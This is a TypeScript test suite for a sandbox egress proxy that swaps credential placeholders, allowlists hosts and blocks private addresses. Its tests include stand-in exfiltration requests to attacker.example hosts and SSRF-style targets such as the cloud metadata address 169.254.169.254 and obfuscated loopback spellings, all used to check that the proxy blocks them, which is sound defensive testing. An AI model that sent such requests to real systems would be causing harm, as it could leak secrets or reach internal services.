import { mkdtempSync, rmSync } from 'node:fs';
import { createServer as createHttpServer, request as httpRequest, type Server } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type PeerCertificate, connect as tlsConnect } from 'node:tls';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCertificateAuthority } from './certificates.js';
import type { EgressCredential, EgressPolicy } from './policy.js';
import { createEgressProxy, type EgressAuditRecord, type EgressProxy } from './proxy.js';

const SECRET = 'sk-live-canary-5f3a9c1e7d';
const PLACEHOLDER = 'berth_placeholder_0123456789abcdef';

interface Seen {
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/** Starts a server that records what it got and echoes the authorization header and body. */
async function echoServer(make: (handler: Parameters<typeof createHttpServer>[1]) => Server) {
  const seen: Seen[] = [];
  const server = make((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => {
      body += chunk.toString('utf8');
    });
    request.on('end', () => {
      seen.push({ headers: request.headers, body });
      const echoed = String(request.headers.authorization ?? '');
      response.writeHead(200, { 'content-type': 'text/plain', 'x-echo': echoed });
      response.end(`you sent: ${echoed} / ${body}`);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, seen, port: (server.address() as AddressInfo).port };
}

/** A plain HTTP request through the proxy's socket. */
function viaProxy(
  socketPath: string,
  url: string,
  headers: Record<string, string> = {},
  body?: string,
): Promise<{ status: number; headers: Record<string, unknown>; body: string }> {
  return new Promise((resolve, reject) => {
    const request = httpRequest(
      { socketPath, path: url, method: body ? 'POST' : 'GET', headers },
      (response) => {
        let text = '';
        response.on('data', (chunk: Buffer) => {
          text += chunk.toString('utf8');
        });
        response.on('end', () =>
          resolve({ status: response.statusCode ?? 0, headers: response.headers, body: text }),
        );
      },
    );
    request.on('error', reject);
    request.end(body);
  });
}

/** CONNECT through the proxy: the status line, and the socket when it was accepted. */
function connectVia(
  socketPath: string,
  authority: string,
): Promise<{ status: number; socket: Socket; text: string }> {
  return new Promise((resolve, reject) => {
    const request = httpRequest({ socketPath, method: 'CONNECT', path: authority });
    request.on('connect', (response, socket) => {
      resolve({ status: response.statusCode ?? 0, socket, text: '' });
    });
    request.on('response', (response) => {
      let text = '';
      response.on('data', (chunk: Buffer) => {
        text += chunk.toString('utf8');
      });
      response.on('end', () => resolve({ status: response.statusCode ?? 0, socket: response.socket, text }));
    });
    request.on('error', reject);
    request.end();
  });
}

/** HTTPS over a CONNECT tunnel, trusting `ca`: the response text and the server's certificate. */
async function httpsVia(
  socketPath: string,
  host: string,
  port: number,
  ca: string[],
  headers: string,
  body = '',
): Promise<{ response: string; certificate: PeerCertificate } | { error: string }> {
  const tunnel = await connectVia(socketPath, `${host}:${port}`);
  if (tunnel.status !== 200) return { error: `CONNECT ${tunnel.status}: ${tunnel.text}` };
  return new Promise((resolve) => {
    const tls = tlsConnect({ socket: tunnel.socket, servername: host, ca }, () => {
      const certificate = tls.getPeerCertificate();
      tls.write(
        `POST / HTTP/1.1\r\nhost: ${host}\r\n${headers}content-length: ${Buffer.byteLength(body)}\r\nconnection: close\r\n\r\n${body}`,
      );
      let text = '';
      tls.on('data', (chunk: Buffer) => {
        text += chunk.toString('utf8');
      });
      tls.on('end', () => resolve({ response: text, certificate }));
      tls.on('close', () => resolve({ response: text, certificate }));
    });
    tls.on('error', (error) => resolve({ error: error.message }));
  });
}

describe('egress proxy', () => {
  let directory: string;
  let upstreamCa: Awaited<ReturnType<typeof createCertificateAuthority>>;
  let plain: Awaited<ReturnType<typeof echoServer>>;
  let secure: Awaited<ReturnType<typeof echoServer>>;
  let untrusted: Awaited<ReturnType<typeof echoServer>>;
  let proxy: EgressProxy;
  const records: EgressAuditRecord[] = [];
  const lookups: string[] = [];
  const credential: EgressCredential = {
    id: 'vcrd_1',
    name: 'github-token',
    placeholder: PLACEHOLDER,
    secret: SECRET,
    allowedHosts: ['api.test'],
    injection: { header: true, body: true },
  };
  let policy: EgressPolicy;

  beforeAll(async () => {
    directory = mkdtempSync(join(tmpdir(), 'berth-egress-'));
    upstreamCa = await createCertificateAuthority('upstream test CA');
    const strangerCa = await createCertificateAuthority('nobody trusts this');
    const apiCertificate = await upstreamCa.issue('api.test');
    const strangerCertificate = await strangerCa.issue('shady.test');
    plain = await echoServer((handler) => createHttpServer(handler));
    secure = await echoServer((handler) =>
      createHttpsServer({ cert: apiCertificate.certificatePem, key: apiCertificate.keyPem }, handler),
    );
    untrusted = await echoServer((handler) =>
      createHttpsServer(
        { cert: strangerCertificate.certificatePem, key: strangerCertificate.keyPem },
        handler,
      ),
    );
    policy = {
      networking: {
        type: 'limited',
        allowedHosts: ['api.test', 'plain.test', 'open.test', 'shady.test', 'loop.test'],
        allowPackageManagers: false,
      },
      credentials: [credential],
    };
    proxy = await createEgressProxy({
      socketPath: join(directory, 'egress.sock'),
      label: 'sesn_test',
      policy,
      onRequest: (record) => records.push(record),
      allowPrivateDestinations: [plain.port, secure.port, untrusted.port].map((port) => `127.0.0.1:${port}`),
      upstreamCaCertificates: [upstreamCa.certificatePem],
      resolve: async (host) => {
        lookups.push(host);
        return host.endsWith('.test') ? ['127.0.0.1'] : ['93.184.216.34'];
      },
    });
  });

  afterAll(async () => {
    await proxy?.close();
    for (const server of [plain, secure, untrusted]) server?.server.close();
    rmSync(directory, { recursive: true, force: true });
  });

  it('forwards plain HTTP to an allowed host, swapping the placeholder only where the credential applies', async () => {
    const credentialHost = await viaProxy(proxy.socketPath, `http://api.test:${plain.port}/x`, {
      host: `api.test:${plain.port}`,
      authorization: `Bearer ${PLACEHOLDER}`,
    });
    expect(credentialHost.status).toBe(200);
    expect(plain.seen.at(-1)!.headers.authorization).toBe(`Bearer ${SECRET}`);
    // The upstream echoed the secret: the sandbox sees the placeholder, in headers and body.
    expect(credentialHost.headers['x-echo']).toBe(`Bearer ${PLACEHOLDER}`);
    expect(credentialHost.body).toContain(PLACEHOLDER);
    expect(credentialHost.body).not.toContain(SECRET);

    const otherHost = await viaProxy(proxy.socketPath, `http://plain.test:${plain.port}/y`, {
      host: `plain.test:${plain.port}`,
      authorization: `Bearer ${PLACEHOLDER}`,
    });
    expect(otherHost.status).toBe(200);
    expect(plain.seen.at(-1)!.headers.authorization).toBe(`Bearer ${PLACEHOLDER}`);
  });

  it('refuses a host outside allowed_hosts without resolving it', async () => {
    const before = lookups.length;
    const denied = await viaProxy(proxy.socketPath, 'http://exfil-abc123.attacker.example/', {
      host: 'exfil-abc123.attacker.example',
    });
    expect(denied.status).toBe(403);
    expect(denied.body).toContain('allowed_hosts');
    const tunnel = await connectVia(proxy.socketPath, 'secret-data.attacker.example:443');
    expect(tunnel.status).toBe(403);
    expect(lookups.length).toBe(before);
    expect(records.at(-1)).toMatchObject({
      decision: 'denied',
      method: 'CONNECT',
      host: 'secret-data.attacker.example',
    });
  });

  it('never reaches private, loopback or link-local addresses, by name or by literal', async () => {
    const open = await createEgressProxy({
      socketPath: join(directory, 'open.sock'),
      label: 'sesn_open',
      policy: { networking: { type: 'unrestricted' }, credentials: [] },
    });
    try {
      for (const authority of [
        '127.0.0.1:22',
        '169.254.169.254:80',
        '10.0.0.1:443',
        '[::1]:443',
        '[::ffff:127.0.0.1]:443',
        '[fe80::1]:443',
        '0.0.0.0:8080',
        // Odd spellings the system resolver turns into 127.0.0.1.
        '2130706433:443',
        '0x7f.1:443',
        'localhost:443',
      ]) {
        const tunnel = await connectVia(open.socketPath, authority);
        expect(tunnel.status, authority).toBe(403);
      }
      const metadata = await viaProxy(open.socketPath, 'http://169.254.169.254/latest/meta-data/', {
        host: '169.254.169.254',
      });
      expect(metadata.status).toBe(403);
    } finally {
      await open.close();
    }
    // A name resolving to loopback on a port not on the operator's list is refused too.
    const tunnel = await connectVia(proxy.socketPath, 'loop.test:22');
    expect(tunnel.status).toBe(403);
    expect(records.at(-1)?.reason).toContain('private');
  });

  it('intercepts TLS for a credential host: the upstream gets the secret, the sandbox never sees it', async () => {
    const result = await httpsVia(
      proxy.socketPath,
      'api.test',
      secure.port,
      [proxy.caCertificatePem],
      `authorization: Bearer ${PLACEHOLDER}\r\n`,
      `{"token":"${PLACEHOLDER}"}`,
    );
    if ('error' in result) throw new Error(result.error);
    expect(secure.seen.at(-1)!.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(secure.seen.at(-1)!.body).toBe(`{"token":"${SECRET}"}`);
    expect(result.response).toContain('200 OK');
    expect(result.response).toContain(PLACEHOLDER);
    expect(result.response).not.toContain(SECRET);
    // The sandbox saw a certificate from the session's CA, not the upstream's.
    expect(result.certificate.issuer.CN).toContain('Berth egress CA sesn_test');
    expect(records.at(-1)).toMatchObject({
      host: 'api.test',
      tls: 'intercepted',
      status: 200,
      credentials: ['github-token'],
      decision: 'allowed',
    });
  });

  it('passes other HTTPS through unopened: the client sees the upstream certificate', async () => {
    const result = await httpsVia(
      proxy.socketPath,
      'open.test',
      secure.port,
      [upstreamCa.certificatePem],
      '',
    );
    // The upstream's certificate names api.test: a direct tunnel shows exactly that.
    expect('error' in result && result.error).toMatch(/altnames|does not match|Hostname/i);
    // A tunnel is audited when it closes.
    await expect
      .poll(() => records.at(-1))
      .toMatchObject({ host: 'open.test', tls: 'passthrough', decision: 'allowed', path: null });
  });

  it('refuses an upstream whose certificate does not verify, and never falls back', async () => {
    proxy.updatePolicy({
      ...policy,
      credentials: [{ ...credential, allowedHosts: ['api.test', 'shady.test'] }],
    });
    try {
      const result = await httpsVia(
        proxy.socketPath,
        'shady.test',
        untrusted.port,
        [proxy.caCertificatePem],
        `authorization: Bearer ${PLACEHOLDER}\r\n`,
      );
      if ('error' in result) throw new Error(result.error);
      expect(result.response).toContain('502');
      expect(result.response).toContain('did not verify');
      expect(untrusted.seen).toEqual([]);
    } finally {
      proxy.updatePolicy(policy);
    }
  });

  it('does not follow redirects: a redirect to another host never carries the secret', async () => {
    const redirector = createHttpServer((_request, response) => {
      response.writeHead(302, { location: `http://plain.test:${plain.port}/stolen` });
      response.end();
    });
    await new Promise<void>((resolve) => redirector.listen(0, '127.0.0.1', resolve));
    const port = (redirector.address() as AddressInfo).port;
    const seenBefore = plain.seen.length;
    const redirecting = await createEgressProxy({
      socketPath: join(directory, 'redirect.sock'),
      label: 'sesn_redirect',
      policy,
      allowPrivateDestinations: [`127.0.0.1:${port}`, `127.0.0.1:${plain.port}`],
      resolve: async () => ['127.0.0.1'],
    });
    try {
      const answer = await viaProxy(redirecting.socketPath, `http://api.test:${port}/`, {
        host: `api.test:${port}`,
        authorization: `Bearer ${PLACEHOLDER}`,
      });
      expect(answer.status).toBe(302);
      expect(plain.seen.length).toBe(seenBefore);
      // The client that follows it sends what it has: the placeholder.
      const followed = await viaProxy(redirecting.socketPath, String(answer.headers.location), {
        host: `plain.test:${plain.port}`,
        authorization: `Bearer ${PLACEHOLDER}`,
      });
      expect(followed.status).toBe(200);
      expect(plain.seen.at(-1)!.headers.authorization).toBe(`Bearer ${PLACEHOLDER}`);
    } finally {
      await redirecting.close();
      redirector.close();
    }
  });

  it('names credentials in audit records, never their values', () => {
    expect(records.length).toBeGreaterThan(5);
    expect(JSON.stringify(records)).not.toContain(SECRET);
    expect(records.some((record) => record.credentials.includes('github-token'))).toBe(true);
  });

  it('close() ends open tunnels', async () => {
    const extra = await createEgressProxy({
      socketPath: join(directory, 'closing.sock'),
      label: 'sesn_close',
      policy: { networking: { type: 'unrestricted' }, credentials: [] },
      allowPrivateDestinations: [`127.0.0.1:${plain.port}`],
      resolve: async () => ['127.0.0.1'],
    });
    const tunnel = await connectVia(extra.socketPath, `held.test:${plain.port}`);
    expect(tunnel.status).toBe(200);
    const closed = new Promise((resolve) => tunnel.socket.on('close', resolve));
    await extra.close();
    await closed;
  });
});
